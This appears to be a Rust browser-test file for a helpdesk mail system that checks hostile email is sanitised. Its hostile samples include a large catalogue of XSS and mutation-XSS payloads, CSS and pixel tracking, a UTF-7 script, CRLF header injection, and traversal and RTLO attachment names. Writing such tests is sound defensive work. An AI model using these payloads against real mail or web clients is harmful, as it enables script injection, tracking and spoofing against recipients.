//! Mail that means harm, over real SMTP and in real Chromium: nothing of it runs, loads, leaves its place or stops anything.
#![cfg(feature = "browser")]
#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, reason = "a test that panics has failed")]

use std::fmt::Write as _;
use std::fs;
use std::net::Ipv4Addr;
use std::sync::Arc;
use std::sync::Mutex;
use std::thread;
use std::time::Duration;

use mailroom_tests::browser::Browser;
use mailroom_tests::client::Client;
use mailroom_tests::mail::Mail;
use mailroom_tests::mail::swaks;
use mailroom_tests::paths;
use mailroom_tests::smtp::client::Connection;
use mailroom_tests::stack::Stack;
use mailroom_tests::story::*;
use serde_json::Value;
use serde_json::json;

/// In every hostile body; what a reader must still see.
const SEEN: &str = "Please read this line";

/// Somebody else's web server: whatever asks it has told the sender something.
struct Tracker {
    base: String,
    hits: Arc<Mutex<Vec<String>>>,
}

impl Tracker {
    fn start() -> Self {
        let server = tiny_http::Server::http((Ipv4Addr::LOCALHOST, 0)).unwrap();
        let base = format!("http://{}", server.server_addr().to_ip().unwrap());
        let hits = Arc::<Mutex<Vec<String>>>::default();
        thread::spawn({
            let hits = Arc::clone(&hits);
            move || {
                for request in server.incoming_requests() {
                    hits.lock().unwrap().push(request.url().to_owned());
                    let _ = request.respond(
                        tiny_http::Response::from_data(PIXEL).with_header(IMAGE.parse::<tiny_http::Header>().unwrap()),
                    );
                }
            }
        });
        Self { base, hits }
    }

    fn hits(&self) -> Vec<String> {
        self.hits.lock().unwrap().clone()
    }
}

const IMAGE: &str = "Content-Type: image/gif";
const PIXEL: &[u8] =
    b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;";

/// Name and HTML. `JS` is a script that leaves a mark, `WEB` the tracker.
const BODIES: [(&str, &str); 6] = [
    (
        "script",
        r#"<script>JS</script><script src="WEB/script.js"></script><img src="x" onerror="JS"><p onmouseover="JS" onclick='JS'>hover</p>
        <body onload="JS"><details open ontoggle="JS">d</details><input autofocus onfocus="JS"><video><source onerror="JS"></video>
        <a href="javascript:JS">one</a><a href="&#106;&#x61;vascript:JS">two</a><a href=" java&#10;script:JS">three</a><a href="data:text/html,<script>JS</script>">four</a>
        <a href="vbscript:JS">five</a><iframe srcdoc="&lt;script&gt;JS&lt;/script&gt;"></iframe><iframe src="WEB/frame"></iframe>
        <object data="WEB/object"></object><embed src="WEB/embed"><applet code="WEB/applet"></applet><isindex action="javascript:JS">"#,
    ),
    (
        "css",
        r#"<style>@import url(WEB/import.css);@import "WEB/import2.css";body{background:url(WEB/body)}@font-face{font-family:x;src:url(WEB/font)}
        p{font-family:x}a[href^="m"]{background:url(WEB/attribute)}:root{--x:url(WEB/variable)}</style><link rel="stylesheet" href="WEB/link.css">
        <p style="background:url(WEB/inline)">a</p><p style="background-image:u\72l(WEB/escaped)">b</p><p style="width:expression(JS)">c</p>
        <p style="background:image-set('WEB/set' 1x)">d</p><p style="list-style:url(WEB/list)">e</p><p style="-moz-binding:url(WEB/xbl)">f</p>
        <p style="behavior:url(WEB/htc)">g</p><p style="position:fixed;inset:0;z-index:99999;background:white">h</p><p style="margin-top:-9999px">i</p>
        <p style="background:/**/url(WEB/comment)">j</p><p style="cursor:url(WEB/cursor),auto;content:url(WEB/content);filter:url(WEB/filter)">k</p>"#,
    ),
    (
        "svg and math",
        r#"<svg onload="JS"><animate onbegin="JS" attributeName="x" dur="1s"/><script>JS</script><a href="javascript:JS"><text>t</text></a>
        <foreignObject><iframe src="javascript:JS"></iframe></foreignObject><image href="WEB/svg-image"/><use href="WEB/svg-use"/></svg>
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=JS&gt;"></table></mtext></math>
        <svg></p><style><a id="</style><img src=1 onerror=JS>"></style></svg><noscript><p title="</noscript><img src=x onerror=JS>"></noscript>
        <math href="javascript:JS">x</math><svg><desc><![CDATA[</desc><script>JS</script>]]></svg><template><img src=x onerror=JS></template>
        <select><template><style><!--</style><a rel="--></style></template></select><script>JS</script>">"#,
    ),
    (
        "base, meta and forms",
        r#"<base href="WEB/base/"><meta http-equiv="refresh" content="0;url=WEB/refresh"><meta http-equiv="refresh" content="0;url=javascript:JS">
        <meta http-equiv="Content-Security-Policy" content="default-src *"><form action="WEB/form" id="f"><input name="password"><button>Log in</button></form>
        <button form="f" formaction="javascript:JS">x</button><input type="image" src="WEB/input"><textarea form="f"></textarea>
        <a href="relative">r</a><a href="//tracker.test/x">s</a><a href="/api/v1/session">t</a><img src="relative.png">
        <link rel="prefetch" href="WEB/prefetch"><link rel="preload" as="image" href="WEB/preload"><link rel="dns-prefetch" href="//tracker.test">
        <a href="WEB/ping-target" ping="WEB/ping">u</a><p id="app" class="dialog composer-text">v</p><a target="_top" href="WEB/top">w</a>"#,
    ),
    (
        "pictures and media",
        r#"<img src="WEB/pixel.gif" width="1" height="1"><img srcset="WEB/srcset 1x"><picture><source srcset="WEB/source"><img alt="a"></picture>
        <video src="WEB/video" poster="WEB/poster" autoplay></video><audio src="WEB/audio" autoplay></audio><table background="WEB/table"><tr background="WEB/tr"><td background="WEB/td">x</td></tr></table>
        <body background="WEB/background"><bgsound src="WEB/bgsound"><img lowsrc="WEB/lowsrc" dynsrc="WEB/dynsrc"><img src="WEB/hidden.gif" style="display:none">
        <img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='JS'/>"><img src="cid:nowhere">"#,
    ),
    (
        "too deep", "", // made below
    ),
];

fn html_of(name: &str, body: &str, tracker: &Tracker) -> String {
    let js = format!("top.pwned=1;parent.document.title='pwned';fetch('{}/js')", tracker.base);
    if name == "too deep" {
        let deep = "<div><b><table><tr><td>".repeat(3_000);
        return format!("{deep}<p>{SEEN}</p><script>{js}</script>");
    }
    let body = body.replace("JS", &js).replace("WEB", &tracker.base);
    format!("<html><body><p>{SEEN}</p>{body}<p>The end</p></body></html>")
}

fn send(stack: &Stack, from: &str, to: &str, raw: &[u8]) {
    let mut connection = Connection::open(stack.front_door().unwrap()).unwrap();
    connection.send(from, &[to], raw).unwrap();
    connection.quit();
}

/// Everything that was shown or asked for is our own.
fn nothing_happened(browser: &Browser, stack: &Stack, tracker: &Tracker, what: &str, path: &str) {
    assert_eq!(browser.run("return window.pwned ?? null", &[]).unwrap(), Value::Null, "{what}: a script ran");
    assert_ne!(browser.run("return document.title", &[]).unwrap(), "pwned", "{what}");
    assert_eq!(browser.path().unwrap(), path, "{what}: the page was led away");
    assert_eq!(tracker.hits(), Vec::<String>::new(), "{what}: it called home");
    let base = stack.base_url();
    let live = base.replace("http://", "ws://");
    let foreign: Vec<String> = browser
        .requests()
        .unwrap()
        .into_iter()
        .filter(|it| !["data:", "blob:", "about:", &base, &live].iter().any(|own| it.starts_with(own)))
        .collect();
    assert!(foreign.is_empty(), "{what}: it asked for {foreign:#?}");
    let left = browser.run(REMAINS, &[]).unwrap();
    assert_eq!(left, json!([]), "{what}: still in the message");
}

/// What must not be in the body of a message, wherever it is shown.
const REMAINS: &str = r#"
const found = [];
const look = (root) => {
  for (const it of root.querySelectorAll("*")) {
    const name = it.localName;
    if (["script", "style", "link", "meta", "base", "form", "input", "textarea", "select", "object", "embed", "video", "audio", "svg", "math", "template"].includes(name) && !it.closest(".msg-head, .msg-bar, .msg-foot, .folded")) found.push(name);
    for (const attribute of it.attributes) {
      if (attribute.name.startsWith("on")) found.push(`${name} ${attribute.name}`);
      if (/^\s*(javascript|vbscript|data:text)/i.test(attribute.value)) found.push(`${name} ${attribute.name}=${attribute.value}`);
    }
    if (name === "iframe") {
      if (root.ownerDocument && root.ownerDocument !== document) found.push("frame in a frame");
      else look(it.contentDocument.body);
    }
  }
};
document.querySelectorAll(".msg-body").forEach(look);
return found;
"#;

/// The text of the messages, within frames too.
const TEXT: &str = r#"
return [...document.querySelectorAll(".msg-body")]
  .map((it) => it.innerText + [...it.querySelectorAll("iframe")].map((frame) => frame.contentDocument?.body?.innerText ?? "").join(""))
  .join("\n");
"#;

#[test]
fn hostile_html_neither_runs_nor_calls_home_and_can_be_answered() {
    let (stack, api) = start("hostile-html");
    let tracker = Tracker::start();
    // Whoever is responsible gets a copy by email: that one must be clean too.
    let me = api.patch("/api/v1/session", &json!({ "notify_by": "email" })).unwrap().ok().unwrap();
    let support = get(&api, "/api/v1/aliases")
        .as_array()
        .unwrap()
        .iter()
        .find(|it| it["address"] == "support@corp.example")
        .cloned()
        .unwrap();
    let owned = json!({ "address": support["address"], "creates": support["creates"], "owner": me["user"] });
    api.call(ureq::http::Method::PATCH, &format!("/api/v1/aliases/{}", id(&support)), Some(&owned))
        .unwrap()
        .ok()
        .unwrap();
    for (index, (name, body)) in BODIES.iter().enumerate() {
        let from = format!("Eve <ok.eve{index}@sink.test>");
        let mail = Mail::new(&from, "support@corp.example", name, SEEN).html(&html_of(name, body, &tracker));
        send(&stack, &format!("ok.eve{index}@sink.test"), "support@corp.example", &mail.raw().unwrap());
    }
    // UTF-7 hides the markup from whoever does not decode it, and shows it to whoever does.
    let utf7 = format!(
        "From: Eve <ok.eve7@sink.test>\r\nTo: support@corp.example\r\nSubject: utf-7\r\nMIME-Version: 1.0\r\n\
         Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-p+AD4-{SEEN}+ADw-/p+AD4- +ADw-script+AD4-top.pwned+AD0-1+ADw-/script+AD4-\
         +ADw-img src+AD0-x onerror+AD0-+ACI-top.pwned+AD0-1+ACIAPg-\r\n"
    );
    send(&stack, "ok.eve7@sink.test", "support@corp.example", utf7.as_bytes());
    // Names and subjects that would be header lines, or markup.
    let injected = format!(
        "From: =?utf-8?Q?Eve=0D=0ABcc:_ok.victim@sink.test=0D=0A?= <ok.eve8@sink.test>\r\nTo: support@corp.example\r\n\
         Subject: =?utf-8?Q?injected=0D=0AX-Injected:_yes=0D=0A=0D=0A<img_src=3Dx_onerror=3Dtop.pwned=3D1>?=\r\n\
         Reply-To: =?utf-8?Q?\"a=0D=0ACc:_ok.victim@sink.test\"?= <ok.eve8@sink.test>\r\n\
         Message-ID: <one@sink.test>\r\nReferences: <a@b>\r\n X-Injected: yes\r\n\r\n{SEEN}\r\n"
    );
    send(&stack, "ok.eve8@sink.test", "support@corp.example", injected.as_bytes());
    let expected = BODIES.len() + 2;
    let all = within(SOON, "all records", &stack, || Some(records(&api)).filter(|it| it.len() == expected));

    let browser = Browser::start(&stack.base_url(), 1440, 900).unwrap();
    browser.open("/login").unwrap();
    browser.take_session(&api).unwrap();
    browser.requests().unwrap();
    for record in &all {
        let what = record["title"].as_str().unwrap();
        assert!(!what.contains(['\r', '\n']), "{what:?}");
        let path = format!("/record/{}", id(record));
        browser.open(&path).unwrap();
        within(SOON, &format!("the text of {what}"), &stack, || {
            browser.run(TEXT, &[]).unwrap().as_str().unwrap().contains(SEEN).then_some(())
        });
        if what == "pictures and media" {
            browser.wait_for_text("button", "Load images").unwrap();
        }
        // Whatever the mail does, the page goes on.
        browser.fill(".composer-text", "Dear Eve, thank you.").unwrap();
        nothing_happened(&browser, &stack, &tracker, what, &path);
        browser.click(".composer .btn--primary").unwrap();
        browser.wait_for_text(".toast", "Undo").unwrap();
        nothing_happened(&browser, &stack, &tracker, what, &path);
        let errors = browser.console_errors().unwrap();
        assert!(errors.is_empty(), "{what}: {errors:#?}");
    }
    browser.open("/records/ticket").unwrap();
    browser.wait_for_text("main", "base, meta and forms").unwrap();
    nothing_happened(&browser, &stack, &tracker, "the list", "/records/ticket");

    // Pictures come when a person asks for them, and nothing else does.
    let pictures = all.iter().find(|it| it["title"] == "pictures and media").unwrap();
    browser.open(&format!("/record/{}", id(pictures))).unwrap();
    browser.click_text("button", "Load images").unwrap();
    within(SOON, "the picture", &stack, || tracker.hits().contains(&"/pixel.gif".to_owned()).then_some(()));
    assert!(
        tracker.hits().iter().all(|it| ["/pixel.gif", "/hidden.gif"].contains(&it.as_str())),
        "{:?}",
        tracker.hits()
    );

    // What left: the answers, and the copies for the responsible.
    send_now(&stack, &api, Duration::from_secs(30));
    for index in [0, 1, 2, 3, 4, 5, 7, 8] {
        let address = format!("ok.eve{index}@sink.test");
        let mail = stack.sink().wait_for(&address, 1, SOON).unwrap().remove(0);
        clean(&mail.raw, &address);
        assert!(mail.raw.contains("Dear Eve, thank you."), "{}", mail.raw);
    }
    let copies = stack.sink().wait_for(AGENT, expected, SOON).unwrap();
    for copy in &copies {
        clean(&copy.raw, AGENT);
    }
    assert!(stack.sink().messages_to("ok.victim@sink.test").is_empty());
}

fn clean(raw: &str, whose: &str) {
    let head = raw.split("\r\n\r\n").next().unwrap_or_default().to_lowercase();
    for line in ["\nbcc:", "\ncc:", "\nx-injected:"] {
        assert!(!head.contains(line), "{whose}: {head}");
    }
    let body = raw.to_lowercase().replace("=\r\n", "").replace("=3d", "=");
    for it in [
        "<script",
        "onerror=\"",
        "onload=\"",
        "javascript:",
        "<iframe",
        "<style>@import",
        "<form",
        "<meta http-equiv=\"refresh",
        "<base",
    ] {
        assert!(!body.contains(it), "{whose}: {it} in {raw}");
    }
}

#[test]
fn odd_mails_are_all_taken_and_each_is_a_message() {
    let (stack, api) = start("hostile-mime");
    let mut mails: Vec<(String, Vec<u8>)> = own_samples();
    let corpus = paths::root().parent().unwrap().join("shared/corpora/mime");
    match fs::read_dir(&corpus) {
        Ok(files) => {
            let files = files.map(|it| it.unwrap().path()).filter(|it| it.extension().is_some_and(|it| it == "eml"));
            mails.extend(
                files.map(|it| (it.file_name().unwrap().to_string_lossy().into_owned(), fs::read(it).unwrap())),
            );
        }
        Err(_) => eprintln!("{} is not there: only our own samples are sent", corpus.display()),
    }
    let mut connection = Connection::open(stack.front_door().unwrap()).unwrap();
    for (index, (name, raw)) in mails.iter().enumerate() {
        // An address for each, to tell them apart.
        let to = format!("support+{index}@corp.example");
        connection.send(&format!("ok.p{index}@sink.test"), &[&to], raw).unwrap_or_else(|it| panic!("{name}: {it:#}"));
    }
    connection.quit();
    let all = within(Duration::from_secs(30), "all of them", &stack, || {
        let all = records(&api);
        let count: u64 = all.iter().map(|it| it["messages"].as_u64().unwrap()).sum();
        (count as usize + no_message(&api).len() >= mails.len()).then_some(all)
    });
    let mut seen: Vec<String> = no_message(&api);
    for record in &all {
        for message in messages(&api, &id(record)) {
            assert!(message["author_name"].as_str().is_some_and(|it| !it.is_empty()), "{message}");
            seen.push(message["delivered_to"].as_str().unwrap().to_owned());
            check_files(&api, &message);
        }
    }
    for (index, (name, _)) in mails.iter().enumerate() {
        assert!(seen.contains(&format!("support+{index}@corp.example")), "{name} is no message");
    }
}

/// Recipients of the mails that are accounted for without being a message: reports about other mail, and what shares a
/// Message-ID with another mail, which is dropped when it is the same and set aside for a person when it differs.
fn no_message(api: &Client) -> Vec<String> {
    let mut out = Vec::new();
    for it in get(api, "/api/v1/incoming?show=all&limit=200")["items"].as_array().unwrap() {
        match (it["fate"].as_str().unwrap(), it["reason"].as_str()) {
            ("written" | "waiting", _) => continue,
            ("report", _) | ("failed" | "ignored", Some("conflict" | "duplicate")) => {}
            _ => panic!("{it}"),
        }
        out.push(it["rcpt_to"].as_str().unwrap().to_owned());
    }
    out
}

/// Names stay names: no folders, nothing that is not seen or turns the reading direction.
fn check_files(api: &Client, message: &Value) {
    for file in message["attachments"].as_array().unwrap() {
        let name = file["name"].as_str().unwrap();
        let is_bad = |c: char| {
            c.is_control()
                || "/\\".contains(c)
                || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        };
        assert!(!matches!(name, "" | "." | "..") && !name.contains(is_bad), "{name:?} in {message}");
        let got = api.get(&format!("/api/v1/attachments/{}", id(file))).unwrap();
        assert_eq!(got.status, 200, "{name}");
        assert_eq!(got.bytes.len() as u64, file["size"].as_u64().unwrap(), "{name}");
        assert!(
            !got.content_type.contains("html") && !got.content_type.contains("svg"),
            "{name}: {}",
            got.content_type
        );
    }
}

/// Head, then lines joined with CRLF.
fn sample(head: &str, body: &[u8]) -> Vec<u8> {
    let mut raw =
        format!("From: Eve <eve@sink.test>\r\nTo: support@corp.example\r\nMIME-Version: 1.0\r\n{head}\r\n\r\n")
            .into_bytes();
    raw.extend_from_slice(body);
    raw.extend_from_slice(b"\r\n");
    raw
}

fn own_samples() -> Vec<(String, Vec<u8>)> {
    let mut all: Vec<(String, Vec<u8>)> = Vec::new();
    let mut add = |name: &str, raw: Vec<u8>| all.push((name.to_owned(), raw));
    let mut deep = String::new();
    for level in 0..1_000 {
        let _ = write!(deep, "Content-Type: multipart/mixed; boundary=\"b{level}\"\r\n\r\n--b{level}\r\n");
    }
    let deep = deep.replacen("Content-Type: multipart/mixed; boundary=\"b0\"\r\n\r\n", "", 1);
    add(
        "1,000 levels",
        sample("Subject: deep\r\nContent-Type: multipart/mixed; boundary=\"b0\"", (deep + "\r\nbottom").as_bytes()),
    );
    let nested = "Content-Type: message/rfc822\r\n\r\nSubject: inner\r\n".repeat(1_000);
    add(
        "1,000 forwards",
        sample(
            "Subject: forwarded\r\nContent-Type: message/rfc822",
            format!("Subject: first\r\n{nested}\r\nbottom").as_bytes(),
        ),
    );
    add("NUL bytes", sample("Subject: nul \0 in the middle\r\nContent-Type: text/plain", b"before\0after\0\0\0"));
    add(
        "no charset is right",
        sample("Subject: wrong\r\nContent-Type: text/plain; charset=us-ascii", b"caf\xe9 \xff\xfe\x81 \xc3\x28"),
    );
    add(
        "unknown charset",
        sample(
            "Subject: =?x-nonsense?B?////?= =?utf-8?Q?=FF=FE?=\r\nContent-Type: text/plain; charset=\"x-nonsense\"",
            b"text",
        ),
    );
    add("declared utf-16", sample("Subject: wide\r\nContent-Type: text/html; charset=utf-16", b"<p>narrow</p>"));
    add(
        "broken base64",
        sample(
            "Subject: broken\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64",
            b"=====!!!!SGVsbG8*",
        ),
    );
    add("no body", b"From: eve@sink.test\r\nSubject: nothing\r\n".to_vec());
    add("no head", b"\r\njust text\r\n".to_vec());
    add("long line", sample("Subject: long", "x".repeat(200_000).as_bytes()));
    add("long subject", sample(&format!("Subject: {}", "s".repeat(60_000)), b"text"));
    add("20,000 recipients", sample(&format!("Subject: many\r\nCc: {}", "a@b.test, ".repeat(20_000)), b"text"));
    add(
        "5,000 references",
        sample(&format!("Subject: many\r\nReferences: {}", "<a@b.test>\r\n ".repeat(5_000)), b"text"),
    );
    let names = [
        "name=\"../../etc/passwd.zip\"",
        "name=\"C:\\\\Windows\\\\System32\\\\evil.zip\"",
        "name*=utf-8''invoice%E2%80%AEfdp.exe",
        "name*=utf-8''a%0D%0AX-Injected%3A%20yes.pdf",
        "name*=utf-8''%00%01%7F%C2%85.pdf",
        "name=\"..\"",
        "name=\"=?utf-8?Q?..=2F..=2F=E2=81=A6x=E2=81=A9.pdf?=\"",
        "name*0*=utf-8''..%2F; name*1=..%2Fsplit.zip",
        "name=\".htaccess\"",
        "name=\"<script>alert(1)</script>.html\"",
    ];
    let mut parts = String::from("--b\r\n\r\ntext\r\n");
    for (index, name) in names.iter().enumerate() {
        let kind = if name.contains("html") { "text/html" } else { "application/zip" };
        let other = name.replace("name", "filename");
        let _ = write!(
            parts,
            "--b\r\nContent-Type: {kind}; {name}\r\nContent-Disposition: attachment; {other}\r\n\r\nfile {index}\r\n"
        );
    }
    add(
        "file names",
        sample("Subject: names\r\nContent-Type: multipart/mixed; boundary=b", (parts + "--b--").as_bytes()),
    );
    all
}

#[test]
fn mail_up_to_25_mib_is_taken_whole_and_beyond_is_refused() {
    let (stack, api) = start("hostile-size");
    // Two files that make 25 MiB after base64, less what the front door writes on top.
    let files: Vec<Vec<u8>> =
        [7_u32, 13].iter().map(|step| (0..9_570_000_u32).map(|i| (i * step % 251) as u8).collect()).collect();
    let mail = Mail::new("ok.ann@sink.test", "support@corp.example", "Plans", "Two large files")
        .attach("application/zip", "one.zip", &files[0])
        .attach("application/pdf", "two.pdf", &files[1])
        .raw()
        .unwrap();
    assert!(mail.len() > 24 * 1024 * 1024 && mail.len() < 25 * 1024 * 1024, "{}", mail.len());
    send(&stack, "ok.ann@sink.test", "support@corp.example", &mail);
    let record = within(Duration::from_secs(30), "the large mail", &stack, || records(&api).into_iter().next());
    let message = messages(&api, &id(&record)).remove(0);
    for (file, bytes) in message["attachments"].as_array().unwrap().iter().zip(&files) {
        let got = api.get(&format!("/api/v1/attachments/{}", id(file))).unwrap();
        assert!(got.bytes == *bytes, "{file}: {} bytes came back", got.bytes.len());
    }
    let beyond = [mail, vec![b'x'; 2 * 1024 * 1024]].concat();
    let sent = swaks(stack.front_door().unwrap(), "ok.ann@sink.test", "support@corp.example", &beyond, &[]).unwrap();
    assert!(
        !sent.accepted && sent.transcript.contains("552 5.3.4"),
        "{}",
        &sent.transcript[sent.transcript.len() - 400..]
    );
    assert_eq!(records(&api).len(), 1);
}
